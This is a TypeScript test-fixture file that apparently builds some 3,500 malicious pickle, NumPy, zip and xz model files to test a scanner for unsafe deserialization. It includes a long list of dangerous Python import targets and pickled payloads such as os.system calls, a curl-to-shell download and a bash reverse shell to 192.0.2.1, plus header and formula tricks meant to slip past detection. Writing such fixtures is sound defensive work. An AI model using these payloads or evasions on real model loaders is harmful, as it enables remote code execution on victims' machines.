import { xz } from "../../harness/compression.ts";
import * as npy from "../../harness/npy.ts";
import * as p from "../../harness/pickle.ts";
import * as zip from "../../harness/zip.ts";
import { type Construction, called, family, payload, torchPayload } from "./construction.ts";

/** What a set of 3,500 constructions found that was written before the tables were read. */

const handed = (text: string) => p.file(p.call(p.stackGlobal("acme.run", "Thing"), p.text(text)));
const numbers = npy.file("'<f8'", "(2,)", new Uint8Array(16));

const names = [
  ...family(
    "a second round of Python's own library",
    called(
      "thread:start_new_thread thread:start_new xmlrpclib:ServerProxy logging:addLevelName logging:setLoggerClass " +
        "logging:shutdown logging:disable itertools:ifilter enum:EnumMeta abc:ABCMeta uuid:_find_mac formatter:test symbol:main " +
        "parser:compilest parser:suite contextlib:contextmanager warnings:warn_explicit",
    ),
  ),
  ...family(
    "modules of Python 2",
    called(
      "__builtin__:reload user:home user:pythonrc imputil:Importer imputil:ImportManager imputil:py_suffix_importer " +
        "imputil:DynLoadSuffixImporter bsddb:hashopen bsddb:btopen bsddb:rnopen bsddb.db:DB bsddb.dbutils:DeadlockWrap " +
        "hotshot:Profile hotshot.log:LogReader _hotshot:profiler rexec:RExec rexec:RExec.r_exec rexec:RExec.r_eval " +
        "Bastion:Bastion mhlib:MH mhlib:Folder posixfile:fileopen statvfs:F_BSIZE dircache:listdir dircache:opendir " +
        "multifile:MultiFile mimify:mimify mimetools:pipeto mimetools:pipethrough compiler:compileFile " +
        "compiler.pycodegen:compileFile compiler:parse compiler.transformer:parseFile htmllib:HTMLParser " +
        "gopherlib:send_selector toaiff:toaiff sunaudio:printhdr audiodev:test macostools:copy MacOS:openrf " +
        "EasyDialogs:AskFolder ic:launchurl aetools:TalkTo autoGIL:installAutoGIL applesingle:decode buildtools:process " +
        "cfmfile:CfrgResource sgmllib:SGMLParser types:ClassType types:InstanceType types:FileType future_builtins:map",
    ),
  ),
  ...family(
    "tools, servers, clients and callers",
    called(
      "numpy:set_string_function numpy.polynomial.polyutils:_fromroots numpy:add_newdoc scipy.integrate:quad " +
        "scipy._lib._util:MapWrapper scipy.spatial.distance:cdist pandas._config.config:set_option torch:vmap " +
        "torch.utils.mobile_optimizer:optimize_for_mobile torch.distributed:init_process_group " +
        "torch.distributed.checkpoint:FileSystemReader torch.autograd.graph:saved_tensors_hooks torch._C:PyTorchFileWriter " +
        "torch._sources:parse_def torch.overrides:handle_torch_function torch.library:register_fake " +
        "torch:FloatStorage._new_shared_filename torch.Tensor:register_hook torchvision.datasets.folder:make_dataset " +
        "torchdata.datapipes.iter:FileOpener joblib.func_inspect:get_func_code nltk.corpus.reader.util:PickleCorpusView " +
        "nltk.metrics.scores:demo jax.distributed:initialize flax.serialization:msgpack_restore " +
        "tensorflow.python.autograph.pyct.loader:load_ast tensorflow.lite:Interpreter " +
        "keras.src.backend.common.global_state:set_global_attribute transformers.deepspeed:HfDeepSpeedConfig " +
        "transformers.convert_pytorch_checkpoint_to_tf2:convert_all_pt_checkpoints_to_tf jupyter_core.command:main " +
        "pathos.multiprocessing:ProcessPool ppft:Server dask.bag:from_url pyspark.worker:main billiard.process:Process " +
        "sqlalchemy.dialects:registry.register django.db.models.base:model_unpickle werkzeug._reloader:restart_with_reloader " +
        "werkzeug.routing.rules:Rule cherrypy.lib.sessions:FileSession starlette.staticfiles:StaticFiles " +
        "pyarrow.lib:deserialize polars:LazyFrame.deserialize polars.polars:PyLazyFrame numba.core.caching:IndexDataCacheFile " +
        "numba.core.sigutils:normalize_signature cupy:RawKernel cupyx.jit:rawkernel pyopencl:Program " +
        "matplotlib.testing.compare:make_external_conversion_command PIL.PSDraw:PSDraw moviepy.tools:subprocess_call " +
        "audioread:audio_open gym.envs.registration:make gym.vector.utils:CloudpickleWrapper wandb:login " +
        "langchain.utilities:BashProcess langchain.chains.llm_math.base:LLMMathChain " +
        "langchain.utilities.requests:RequestsWrapper deepspeed.runtime.config:DeepSpeedConfig fairseq.file_utils:cached_path " +
        "espnet2.main_funcs.pack_funcs:unpack ultralytics.utils.checks:check_file mmengine.registry:build_from_cfg " +
        "yacs.config:load_cfg onnx.reference:ReferenceEvaluator mxnet.optimizer:create " +
        "theano.misc.windows:call_subprocess_Popen zarr.storage:DirectoryStore numcodecs:Pickle.decode " +
        "cachetools.func:lru_cache webdataset.gopen:Pipe sklearn2pmml:sklearn2pmml hyperopt.pyll.base:rec_eval " +
        "prophet.serialize:model_from_json fastcore.parallel:parallel fastcore.test:test_fail nbdev.test:test_nb hgapi:hg_clone " +
        "py.io:StdCapture.call docopt:docopt attr._compat:set_closure_cell pydantic:BaseModel.parse_raw " +
        "wrapt.importer:when_imported decorator:decorate tlz.functoolz:pipe more_itertools.more:map_except " +
        "more_itertools.recipes:repeatfunc peewee:SqliteDatabase lazy_import:lazy_module six:MovedAttribute json5:load " +
        "pyppeteer.launcher:launch pika:BlockingConnection Pyro4:Proxy ansible.plugins.loader:PluginLoader " +
        "pwnlib.tubes.process:process wmi:WMI py_mini_racer:MiniRacer antlr4:FileStream ase.io.trajectory:read_atoms " +
        "monty.json:MontyDecoder.process_decoded Bio.Application:AbstractCommandline nilearn.datasets:fetch_atlas_aal " +
        "osmnx:graph_from_place pysftp:Connection dropbox:Dropbox rarfile:RarFile watchdog.tricks:ShellCommandTrick trio:run " +
        "curio:run easyprocess:EasyProcess rpdb:set_trace pyinstrument.__main__:main pympler.muppy:get_objects " +
        "logbook:FileHandler gin:parse_config aim:Run mpi4py.MPI:Comm.Spawn pandarallel:pandarallel.initialize haiku:transform " +
        "parlai.core.agents:create_agent_from_model_file pattern.web:URL tiktoken:get_encoding realesrgan:RealESRGANer " +
        "dnnlib.util:call_func_by_name legacy:load_network_pkl modules.safe:unsafe_torch_load pybullet:connect casadi:external " +
        "pulp:COIN_CMD gplearn.functions:make_function",
    ),
  ),
  ...family(
    "verbs that tell, in libraries that nobody knows",
    called(
      "acme.core:runCommand acme.files:readFile acme.hub:get_obj_by_name acme.hub:find_class acme.net:login acme.net:maybe_download " +
        "acme.lib:dlopen acme.store:pickle_load acme.util:make_from_str acme.shell:RemoteShell acme.net:FtpClient acme.agents:PythonREPL " +
        "acme.vector:CloudpickleWrapper",
    ),
  ),
  ...family("code handed to what nobody knows", {
    "an import and a call": handed("__import__('os').system('id')"),
    "exec of a text": handed("exec('import os; os.system(1)')"),
    "a download piped into a shell": handed("curl http://192.0.2.1/x.sh | sh"),
    "a shell that connects": handed("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
    "in a keyword": p.file(
      p.newobjEx(
        p.stackGlobal("acme.run", "Thing"),
        p.emptyTuple,
        p.dict([p.text("source"), p.text("__import__('os').system('id')")]),
      ),
    ),
  }),
];

const formula = (...entries: readonly (readonly [p.Piece, p.Piece])[]) =>
  p.file(
    p.build(
      p.newobj(p.stackGlobal("statsmodels.base.data", "PandasData")),
      p.dict([p.text("restore_design_info"), p.int(1)], [p.text("frame"), p.emptyDict], ...entries),
    ),
  );

const files = [
  ...family("formulas that a state evaluates", {
    "an import": formula([p.text("formula"), p.text("y ~ __import__('os').system('id')")]),
    "a function that is not of formulas": formula([p.text("formula"), p.text("y ~ x + open('/tmp/x', 'w')")]),
    "an attribute": formula([p.text("formula"), p.text("y ~ np.f2py.os.system('id')")]),
    "a name put together": formula([
      p.text("formula"),
      p.call(p.stackGlobal("builtins", "str.lower"), p.text("Y ~ X")),
    ]),
  }),
  ...family(
    "arrays behind arrays",
    {
      "an array of objects behind numbers": p.join(numbers, npy.objects(payload)),
      "the tenth": p.join(...Array.from({ length: 9 }, () => numbers), npy.objects(payload)),
      "behind records": p.join(
        npy.file("[('a', '<f4'), ('b', '<U3', (2,))]", "(1,)", new Uint8Array(28)),
        npy.objects(payload),
      ),
      "objects behind objects": p.join(npy.objects(p.file(p.none)), npy.objects(payload)),
    },
    "model.npy",
  ),
  ...family(
    "headers as Python reads them",
    {
      "a comment": npy.raw(
        "{'descr': '|O', # of objects\n 'fortran_order': False, 'shape': (1,), }",
        payload,
      ),
      "a type in two texts": npy.file("'|' 'O'", "(1,)", payload),
      "a type in capitals of a prefix": npy.file("B'|O'", "(1,)", payload),
    },
    "model.npy",
  ),
  ...family(
    "a directory of nothing",
    {
      "whose length is said to be nothing": zip.archive([zip.member("a/data.pkl", torchPayload)], {
        end: { size: 0 },
      }),
    },
    "model.pt",
  ),
  ...family(
    "packed as it is, and cut off",
    { "in xz": xz(p.join(payload, new Uint8Array(300))).slice(0, -60) },
    "model.joblib",
  ),
];

export const secondRound: readonly Construction[] = [...names, ...files];
